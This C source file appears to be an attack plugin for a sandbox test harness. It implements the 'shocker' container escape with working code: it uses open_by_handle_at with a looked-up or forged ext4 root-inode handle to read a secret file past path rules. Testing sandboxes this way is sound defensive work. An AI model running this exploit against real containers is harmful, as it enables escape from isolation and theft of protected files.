/*
 * fs_open_by_handle — the "shocker" container escape: open_by_handle_at() opens
 * a file from an opaque handle, bypassing every path (and so every path rule).
 * The plugin asks for the secret's handle with name_to_handle_at(); failing that
 * it forges the handle of the file system root (ext4 root inode 2) and opens the
 * secret relative to it. Needs CAP_DAC_READ_SEARCH, which a runner must not hold.
 */
#include "attack.h"

#include <sys/stat.h>

static int read_fd(atk_out *out, const char *label, int fd)
{
    char buf[4096];
    ssize_t got = read(fd, buf, sizeof buf);
    close(fd);
    if (got <= 0) {
        return 0;
    }
    atk_printf(out, "%s: ", label);
    atk_put(out, buf, (size_t)got);
    atk_put(out, "\n", 1);
    return 1;
}

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    union {
        struct file_handle fh;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } handle;
    int mount_id = 0;
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    int mount_fd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0) {
        mount_fd = AT_FDCWD;
    }
    handle.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, secret, &handle.fh, &mount_id, 0) == 0) {
        int fd = open_by_handle_at(mount_fd, &handle.fh, O_RDONLY);
        if (fd >= 0) {
            atk_gained(out, "open_by_handle_at on the secret's handle");
            found |= read_fd(out, "secret via handle", fd);
        } else {
            atk_failed(out, "open_by_handle_at(secret)", errno);
        }
    } else {
        atk_failed(out, "name_to_handle_at", errno);
    }
    /* The forged handle: ext4 FILEID_INO32_GEN (type 1), inode 2, generation 0. */
    handle.fh.handle_bytes = 8;
    handle.fh.handle_type = 1;
    memset(handle.fh.f_handle, 0, 8);
    handle.fh.f_handle[0] = 2;
    int root = open_by_handle_at(mount_fd, &handle.fh, O_RDONLY | O_DIRECTORY);
    if (root >= 0) {
        atk_gained(out, "opened the file system root by a forged handle");
        int fd = openat(root, secret + (secret[0] == '/' ? 1 : 0), O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            found |= read_fd(out, "secret via forged root handle", fd);
        }
        close(root);
    } else {
        atk_failed(out, "open_by_handle_at(forged root)", errno);
    }
    if (mount_fd >= 0) {
        close(mount_fd);
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
